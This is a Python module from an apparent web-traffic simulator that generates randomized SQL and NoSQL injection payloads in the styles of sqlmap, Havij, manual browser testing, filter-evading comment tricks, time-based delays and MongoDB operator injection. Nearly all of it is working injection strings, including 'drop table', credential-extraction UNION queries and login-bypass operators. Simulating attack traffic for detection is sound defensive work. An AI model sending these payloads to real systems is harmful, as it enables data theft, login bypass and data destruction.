"""SQL and NoSQL injection by tools and by hand.

Sources: sqlmap's documented techniques (BEUSTQ) and tamper scripts; PortSwigger and PentesterLab exercises (by hand);
Havij's constant markers as seen in honeypots; Acunetix's and ghauri's time-based probes; NoSQLMap.
"""

# fmt: off
# Declarations read better a line each than an element each.
from __future__ import annotations

from random import Random

from simulator.payloads import wire
from simulator.payloads.aim import Aim, Shot
from simulator.web.words import identifier

_TABLES = ("users", "admin", "accounts", "wp_users", "customers", "orders", "members", "tbl_login", "oc_user", "payment_cards")
_COLUMNS = ("username", "password", "email", "user_pass", "login", "passwd", "card_number", "admin_email")
_LETTERS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"


def _number(rng: Random) -> int:
    return rng.randrange(1000, 9999)


def _marker(rng: Random) -> str:
    return "0x71" + "".join(f"{rng.randrange(0x62, 0x7B):02x}" for _ in range(3)) + "71"


def sqlmap(rng: Random, aim: Aim) -> Shot:
    """Boundaries, then a technique with random numbers, then a comment with random letters; sometimes a tamper script."""
    n, m = _number(rng), _number(rng)
    before = rng.choice((")", "'", "')", "\"", "'))", "", "%'", "\")"))
    after = rng.choice(("-- " + identifier(rng, 4, _LETTERS), "#", f" AND '{identifier(rng, 4, _LETTERS)}'='{identifier(rng, 4, _LETTERS)}",
        f" AND ({n}={n}", ""))
    technique = rng.randrange(9)
    if technique == 0:
        core = f" AND {n}={rng.choice((n, m))}"
    elif technique == 1:
        core = f" UNION ALL SELECT {','.join(['NULL'] * rng.randrange(1, 11))},CONCAT({_marker(rng)},{rng.choice(('IFNULL(CAST(CURRENT_USER() AS NCHAR),0x20)', identifier(rng, 10, _LETTERS).join(chr(39) * 2), 'JSON_ARRAYAGG(CONCAT_WS(0x7c,' + rng.choice(_COLUMNS) + '))'))},{_marker(rng)})"
    elif technique == 2:
        core = f" AND EXTRACTVALUE({n},CONCAT(0x5c,{_marker(rng)},(SELECT (ELT({n}={n},1))),{_marker(rng)}))"
    elif technique == 3:
        core = f" AND (SELECT {n} FROM(SELECT COUNT(*),CONCAT({_marker(rng)},(SELECT (ELT({m}={m},1))),{_marker(rng)},FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)"
    elif technique == 4:
        core = f" AND (SELECT {n} FROM (SELECT(SLEEP({rng.choice((5, 5, 10))})))"+ identifier(rng, 4, _LETTERS) + ")"
    elif technique == 5:
        core = f" ORDER BY {rng.choice((1, 10, rng.randrange(2, 30)))}"
    elif technique == 6:
        core = f" OR NOT {n}={rng.choice((n, m))}"
    elif technique == 7:
        core = f" AND {n}=CAST((CHR(113)||CHR({rng.randrange(98, 122)})||CHR(113))||(SELECT (CASE WHEN ({m}={m}) THEN 1 ELSE 0 END))::text||(CHR(113)||CHR(113)) AS NUMERIC)"
    else:
        return aim.query(rng, wire.library(rng, "".join(rng.sample("()'\",.)(", 6))), "id", str(rng.randrange(1, 400)))
    text = before + core + after
    tamper = rng.random()
    if tamper < 0.12:
        text = text.replace(" ", "/**/")
    elif tamper < 0.2:
        text = wire.mixed_case(rng, text)
    elif tamper < 0.26:
        text = text.replace("=", " LIKE ")
    return aim.query(rng, wire.library(rng, text), rng.choice(("id", "text")), str(rng.randrange(1, 900)))


def by_hand(rng: Random, aim: Aim) -> Shot:
    """Somebody with a browser: a quote, a tautology, counting columns, reading tables."""
    table, column = rng.choice(_TABLES), rng.choice(_COLUMNS)
    comment = rng.choice(("--", "-- -", "--+", "#", "/*", ";--", "-- x"))
    columns = list(range(1, rng.randrange(3, 9)))
    columns[rng.randrange(len(columns))] = rng.choice(("version()", "database()", f"group_concat({column})", "@@version", "user()", f"concat({column},0x3a,password)"))  # type: ignore[call-overload]
    listed = ",".join(map(str, columns))
    one = rng.choice(("1", "a", "x", str(rng.randrange(1, 99)), ""))
    text = rng.choice((
        "'", "''", "\"", "\\", "1'", f"' or {one or 1}={one or 1}{comment}", f"' or '{one}'='{one}", f"\" or \"{one}\"=\"{one}", f"admin'{comment}",
        f"admin' or '1'='1'{comment}",
        f"') or ('{one}'='{one}", f"1 or 1=1{comment}", f"1 and 1={rng.choice((1, 2))}", f"' order by {len(columns)}{comment}",
        f"-1 union select {listed}{comment}", f"' union select {listed} from {table}{comment}",
        "' union select table_name,2 from information_schema.tables where table_schema=database()" + comment, f"1; drop table {table}{comment}",
        f"'; update {table} set {column}='x' where id=1{comment}",
        f"' and (select count(*) from {table})>0{comment}", f"' and substring({column},1,1)='{rng.choice('abcm')}", f"{one}' having 1=1{comment}",
        f"' or {column} is not null{comment}", f"0' or exists(select * from {table}) and 'a'='a",
    ))
    return aim.query(rng, wire.browser(rng, text), rng.choice(("text", "text", "id")), rng.choice(("", "", str(rng.randrange(1, 60)))))


def commented(rng: Random, aim: Aim) -> Shot:
    """Keywords broken by comments, versions, odd blanks and case, to pass filters."""
    gap = rng.choice(("/**/", f"/*{identifier(rng, 3)}*/", "%0a", "%09", "%0b", "+", "/*!*/", "%a0", "()"))
    word = {w: rng.choice((f"/*!{rng.choice((50000, 12345, 40101))}{wire.mixed_case(rng, w)}*/", wire.mixed_case(rng, w), w[:2] + "/**/" + w[2:],
        w[:3] + w + w[3:])) for w in ("union", "select", "from", "where", "and", "or")}
    column, table = rng.choice(_COLUMNS), rng.choice(_TABLES)
    text = rng.choice((
        f"-{rng.randrange(1, 99)}'{gap}{word['union']}{gap}{word['select']}{gap}1,{column},3{gap}{word['from']}{gap}{table}--%20-",
        f"1e0{word['union']}{gap}{word['select']}(1),(2),({column}){word['from']}({table})%23", f"'{gap}{word['or']}{gap}1{gap}like{gap}1--+",
        f"'||({word['select']}{gap}{column}{gap}{word['from']}{gap}{table}{gap}limit{gap}1)||'",
        f"'{gap}%26%26{gap}1=1%23", f"'%7C%7C'{rng.randrange(9)}'='{rng.randrange(9)}",
        f"1{gap}{word['and']}{gap}(ascii(mid((database()),{rng.randrange(1, 9)},1)))>{rng.randrange(60, 120)}",
        f"{rng.randrange(1, 50)}{gap}{word['and']}{gap}{rng.randrange(9)}<>{rng.randrange(9)}{gap}{word['or']}{gap}'{identifier(rng, 2)}'{gap}rlike{gap}'^{identifier(rng, 1)}",
        f"'{gap}{word['or']}{gap}@@version{gap}{word['where']}{gap}2%3E1%00",
    ))
    return aim.query(rng, wire.raw(rng, text), "id")


def mass(rng: Random, aim: Aim) -> Shot:
    """Bots that fire one constant at every parameter they crawled, the marker of an old tool in hex."""
    marker = "0x31303235343830303536" if rng.random() < 0.6 else "0x" + identifier(rng, 20, "0123456789abcdef")
    count = rng.randrange(1, 16)
    text = rng.choice((
        f"999999.9 union all select {','.join([marker] * count)}--", f"999999.9' union all select {','.join([marker] * count)} and '0'='0",
        f"999999.9\" union all select {','.join([marker] * count)} and \"x\"=\"x",
        "' and 'x'='x", "' and 'x'='y", "%' and 1=1 and '%'='", " and 1=1", " and 1>1", "' And char(124)+user+char(124)=0 and '%'='",
        " and(select 1 from(select count(*),concat((select concat(0x7e,version(),0x7e)),floor(rand(0)*2))x from information_schema.tables group by x)a)and 1=1",
        " AnD sLeep(3) ANd '1", "A=0", ");declare @c char(20) select @c=0x" + identifier(rng, 14, "0123456789ABCDEF") + "--",
        "1%27%20AND%202*3*8=6*8%20AND%20%27" + identifier(rng, 4, _LETTERS) + "%27=%27",
    ))
    return aim.query(rng, wire.raw(rng, text), "id", str(rng.randrange(1, 3000)))


def timed(rng: Random, aim: Aim) -> Shot:
    """Delays in every dialect, nested so that one text fits any quoting."""
    wait = rng.choice((3, 6, 9, 12, 15, 20))
    letter = identifier(rng, 1, "ABCDEFGHIJKLMNOPQRSTUVWXYZ")
    text = rng.choice((
        f"0'XOR(if(now()=sysdate(),sleep({wait}),0))XOR'{letter}", f"0\"XOR(if(now()=sysdate(),sleep({wait}),0))XOR\"{letter}",
        f"(select(0)from(select(sleep({wait})))v)/*'+(select(0)from(select(sleep({wait})))v)+'\"+(select(0)from(select(sleep({wait})))v)+\"*/",
        f"-1; waitfor delay '0:0:{wait}' --", f"{identifier(rng, 8, _LETTERS)}'; waitfor delay '0:0:{wait}' --",
        f"-{rng.randrange(9)} OR {rng.randrange(100, 999)}=(SELECT {rng.randrange(100, 999)} FROM PG_SLEEP({wait}))--",
        f"{identifier(rng, 8, _LETTERS)}')) OR 1=(SELECT 1 FROM PG_SLEEP({wait}))--",
        f"1'||DBMS_PIPE.RECEIVE_MESSAGE(CHR(98)||CHR(98)||CHR(98),{wait})||'",
        f"';SELECT BENCHMARK({wait}000000,MD5(0x{identifier(rng, 8, '0123456789abcdef')}));#", f"1 RLIKE SLEEP({wait})",
        f"if(now()=sysdate(),sleep({wait}),0)", f"'+(SELECT*FROM(SELECT(SLEEP({wait})))a)+'", f"1;SELECT CASE WHEN(1=1)THEN PG_SLEEP({wait})END--",
    ))
    return aim.query(rng, rng.choice((wire.library, wire.form, wire.curl))(rng, text), rng.choice(("id", "text")))


def nosql(rng: Random, aim: Aim) -> Shot:
    """Operators of MongoDB in bracketed parameters or JSON, and JavaScript for `$where`."""
    name = rng.choice(("user", "username", "email", "password", "token", "coupon", "id"))
    operator, value = rng.choice((("$ne", ""), ("$ne", identifier(rng, 5)), ("$gt", ""), ("$regex", "^" + identifier(rng, 1)), ("$regex", ".*"),
        ("$exists", "true"), ("$in][", "admin"), ("$nin][]", "x"), ("$where", "sleep(5000)")))
    if rng.random() < 0.4:
        query = f"{name}[{operator}]={value}" + (f"&password[{operator}]={value}" if rng.random() < 0.5 else "")
        return Shot(rng.choice((aim.site.style.login, "/api/login", "/api/users", aim.site.style.search[0], "/v2/orders")),
            query.replace("[", "%5B").replace("]", "%5D") if rng.random() < 0.4 else query)
    text = rng.choice((f'{{"{operator.split("]")[0]}":"{value}"}}', f'{{"{name}":{{"$gt":""}},"password":{{"$gt":""}}}}',
        f"';return(true);var {identifier(rng, 2)}='", "' || '1'=='1", f"'; while(true){{}}; var {identifier(rng, 1)}='",
        f"this.{name}.match(/^{identifier(rng, 1)}/)//+%00", "' && this.password.match(/.*/)//", f"true, $where: '{rng.randrange(9)} == 1'"))
    return aim.query(rng, wire.library(rng, text), "text")
